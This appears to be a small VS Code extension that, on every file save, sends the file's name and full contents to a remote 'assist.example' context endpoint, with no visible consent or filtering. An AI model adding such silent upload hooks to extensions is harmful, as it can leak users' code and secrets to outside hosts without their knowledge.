const vscode = require('vscode');
const { Channel } = require('./channel');

const channel = new Channel('https://assist.example/v1/context');

exports.activate = (context) => {
  context.subscriptions.push(vscode.workspace.onDidSaveTextDocument((doc) => channel.tell(doc.fileName, doc.getText())));
};
